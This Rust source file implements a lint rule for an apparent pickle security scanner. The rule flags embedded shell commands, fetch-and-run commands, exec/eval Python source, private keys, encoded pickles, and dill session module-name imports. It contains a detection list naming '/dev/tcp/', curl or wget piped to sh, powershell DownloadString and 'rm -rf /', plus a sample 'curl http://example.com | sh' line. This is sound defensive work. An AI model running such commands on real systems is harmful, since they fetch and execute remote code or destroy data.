//! ## What it does
//! Reports a constant that is a shell command, a command that fetches and runs something, Python source that
//! executes text, a private key, or base64 of a pickle or of a zip, and that no call takes. Pickles of up to a
//! megabyte are looked through. A warning where plain texts are what `dill.load_session` takes for the module of a session.
//!
//! ## Why is this bad?
//! Such a text does nothing by itself. It shows what a program that takes it from the data may be made to run, or a secret
//! that was stored by mistake. A key that is found so is known to everyone who has the file: replace it.
//!
//! To find out which module a session is of, dill reads opcodes at the beginning of the file before it loads anything: the text
//! behind one that ends in `_import_module` is imported.
//!
//! ## Example
//! ```pickleasm
//! PROTO 4
//! SHORT_BINUNICODE 'curl http://example.com | sh'
//! STOP
//! ```
//!
//! ```pickleasm
//! UNICODE '-----BEGIN RSA PRIVATE KEY-----'
//! STOP
//! ```
//!
//! ```pickleasm
//! PROTO 4
//! SHORT_BINUNICODE 'fast_import_module'
//! SHORT_BINUNICODE 'this'
//! TUPLE2
//! STOP
//! ```
//!
//! ## Use instead
//! Keep commands and keys out of data.
//!
//! ## References
//! - [CWE-798](https://cwe.mitre.org/data/definitions/798.html): hard-coded credentials
//! - `dill/session.py`, `_identify_module`

use std::sync::LazyLock;

use aho_corasick::packed::Searcher;
use memchr::memmem;
use pickle_ops::{Op, Opcode, Reader};

use crate::analysis::Seen;
use crate::diagnostic::Severity;
use crate::lint::Reporter;
use crate::rule::{Check, Meta, Rule};

pub(crate) static RULE: Rule = Rule {
    meta: Meta {
        code: "PG113",
        name: "suspicious-text",
        severity: Severity::Info,
        since: "0.1.0",
        source: include_str!("suspicious_text.rs"),
    },
    checks: &[Check::Pickle(check), Check::Pickle(check_session)],
};

/// Bytes of a pickle that is looked through.
const MOST_BYTES: usize = 1 << 20;
/// Bytes of a constant that is looked at.
const LONGEST: usize = 1 << 16;

/// A piece of text that gives a kind away.
struct Sign {
    piece: &'static str,
    /// Another one that has to be in the same text.
    with: &'static [&'static str],
    what: &'static str,
}

const fn sign(piece: &'static str, with: &'static [&'static str], what: &'static str) -> Sign {
    Sign { piece, with, what }
}

const SIGNS: &[Sign] = &[
    sign("PRIVATE KEY-----", &["-----BEGIN"], "a private key"),
    sign("/bin/sh", &[" -c", " -i", "|"], "a shell command"),
    sign("/bin/bash", &[" -c", " -i", "|"], "a shell command"),
    sign("/dev/tcp/", &[], "a shell command that connects"),
    sign(
        "curl ",
        &["| sh", "|sh", "| bash", "|bash", "| python"],
        "a command that fetches and runs something",
    ),
    sign("wget ", &["| sh", "|sh", "| bash", "|bash", "&& "], "a command that fetches and runs something"),
    sign("powershell", &[" -e", " -E", "IEX", "DownloadString"], "a shell command"),
    sign("rm -rf /", &[], "a shell command"),
    sign(
        "__import__(",
        &["os", "subprocess", "socket", "exec", "eval"],
        "Python source that imports by name",
    ),
    sign(
        "exec(",
        &["compile(", "base64", "marshal", "zlib", "__import__", "import "],
        "Python source that executes text",
    ),
    sign("eval(", &["compile(", "base64", "__import__", "input("], "Python source that executes text"),
];

/// How base64 of pickles of protocols 2 to 5 and of zip files begins.
const ENCODED: &[(&str, &str)] = &[
    ("gASV", "a pickle"),
    ("gAWV", "a pickle"),
    ("gANj", "a pickle"),
    ("gAJj", "a pickle"),
    ("UEsDB", "a zip file"),
];

fn check(seen: &Seen<'_, '_>, report: &mut Reporter<'_>) {
    let range = seen.summary.start..seen.summary.end;
    let Some(bytes) = seen.bytes.get(range.clone()).filter(|bytes| bytes.len() <= MOST_BYTES) else { return };
    if !has_piece(bytes) {
        return;
    }
    let mut reader = Reader::new(&seen.bytes[..range.end], range.start);
    let mut previous = None;
    while let Ok(op) = reader.next_op() {
        if op.opcode.is_text()
            && op.raw.len() <= LONGEST
            && let Some(what) = kind(&op)
            && !is_argument(&reader)
            && previous != Some(op.raw)
        {
            let message = format!("a constant is {what}");
            report.push(report.finding(op.start..op.end, message).help("no call of this pickle takes it"));
            previous = Some(op.raw);
        }
    }
}

/// Bytes of a file that dill may have looked into: as many as Python reads ahead.
const PEEKED: usize = 1 << 17;
/// How the text ends that dill looks for.
const IMPORT: &[u8] = b"_import_module";

/// The text that dill takes for the module of a session, where it is no argument of the function that imports it: of that, more is said
/// otherwise.
fn check_session(seen: &Seen<'_, '_>, report: &mut Reporter<'_>) {
    let peeked = &seen.bytes[..seen.summary.end.min(PEEKED)];
    if seen.summary.start != 0 || memmem::find(peeked, IMPORT).is_none() {
        return;
    }
    let mut reader = Reader::new(peeked, 0);
    let (mut is_named, mut is_called) = (false, false);
    while let Ok(op) = reader.next_op() {
        let name = op.raw.trim_ascii_end();
        match op.opcode {
            Opcode::Unicode | Opcode::BinUnicode | Opcode::ShortBinUnicode if is_named => {
                if !is_called || !is_argument(&reader) {
                    let message =
                        "`dill.load_session` takes this text for the name of a module, and imports it";
                    let finding = report.finding(op.start..op.end, message.to_owned());
                    let help = "dill looks for the module of a session before it loads anything; no session has it among its data";
                    report.push(finding.of_severity(Severity::Warning).help(help));
                }
                return;
            }
            Opcode::ShortBinUnicode if name.ends_with(IMPORT) => is_named = true,
            Opcode::Global if name.ends_with(IMPORT) => (is_named, is_called) = (true, true),
            Opcode::StackGlobal => is_called |= is_named,
            _ => {}
        }
    }
}

/// Whether a piece of any sign is among the bytes. Every pickle is searched, and nearly none has one.
fn has_piece(bytes: &[u8]) -> bool {
    /// All pieces at once; `None` on processors for which there is no such search.
    static ALL: LazyLock<Option<Searcher>> = LazyLock::new(|| Searcher::new(pieces()));
    match ALL.as_ref() {
        Some(all) => all.find(bytes).is_some(),
        None => pieces().any(|piece| memmem::find(bytes, piece.as_bytes()).is_some()),
    }
}

fn pieces() -> impl Iterator<Item = &'static str> {
    SIGNS.iter().map(|sign| sign.piece).chain(ENCODED.iter().map(|row| row.0))
}

/// What a text is.
fn kind(op: &Op<'_>) -> Option<String> {
    let text = String::from_utf8_lossy(op.raw);
    let has = |sign: &&Sign| {
        text.contains(sign.piece)
            && (sign.with.is_empty() || sign.with.iter().any(|with| text.contains(with)))
    };
    if let Some(sign) = SIGNS.iter().find(has) {
        return Some(sign.what.to_owned());
    }
    let body = text.trim_matches(['\'', '"']);
    let encoded = ENCODED.iter().find(|row| body.starts_with(row.0) && body.len() >= 24);
    let is_base64 = |byte: u8| byte.is_ascii_alphanumeric() || b"+/=-_\r\n".contains(&byte);
    encoded.filter(|_| body.bytes().all(is_base64)).map(|row| format!("base64 of {}", row.1))
}

/// Whether what follows makes the text an argument of a call: the rules about calls have it.
fn is_argument(reader: &Reader<'_>) -> bool {
    let mut ahead = reader.clone();
    for _ in 0..MOST_AHEAD {
        match ahead.next_op().map(|op| op.opcode) {
            Ok(Opcode::Reduce | Opcode::NewObj | Opcode::NewObjEx | Opcode::Inst | Opcode::Obj) => {
                return true;
            }
            Ok(op) if op.is_literal() || is_between(op) => {}
            _ => return false,
        }
    }
    false
}

/// Ops that are looked at behind a text.
const MOST_AHEAD: usize = 16;

/// Ops that come between an argument and its call.
fn is_between(opcode: Opcode) -> bool {
    matches!(
        opcode,
        Opcode::Tuple
            | Opcode::Tuple1
            | Opcode::Tuple2
            | Opcode::Tuple3
            | Opcode::Memoize
            | Opcode::BinPut
            | Opcode::LongBinPut
            | Opcode::Put
    )
}

#[cfg(test)]
mod tests {
    use crate::{Options, lint_stream};

    fn said(rows: &str) -> usize {
        let bytes = pickle_listing::text::assemble(rows).bytes;
        let report = lint_stream(&bytes, &Options::default(), &pickle_machine::never);
        report.findings.iter().filter(|finding| finding.rule.code == super::RULE.meta.code).count()
    }

    /// As `dill.dump_session` begins, and other texts in the same place.
    #[test]
    fn modules_of_sessions() {
        let own = "BINUNICODE '__main__'\nTUPLE1\nREDUCE\nSTOP";
        let before = "PROTO 4\nSHORT_BINUNICODE 'dill._dill'\nSHORT_BINUNICODE '_import_module'\n";
        assert_eq!(said(&format!("PROTO 2\nGLOBAL 'dill._dill' '_import_module'\n{own}")), 0);
        assert_eq!(said(&format!("{before}STACK_GLOBAL\nMEMOIZE\n{own}")), 0);
        assert_eq!(said(&format!("{before}STACK_GLOBAL\nBINUNICODE 'this'\nPOP\n{own}")), 1);
        assert_eq!(
            said(&format!("PROTO 2\nGLOBAL 'dill._dill' '_import_module'\nBINUNICODE 'this'\nPOP\n{own}")),
            1
        );
        assert_eq!(said(&format!("{before}BINUNICODE 'this'\nTUPLE3\nSTOP")), 1);
        assert_eq!(said("PROTO 2\nBINUNICODE '_import_module'\nBINUNICODE 'this'\nTUPLE2\nSTOP"), 0);
    }
}
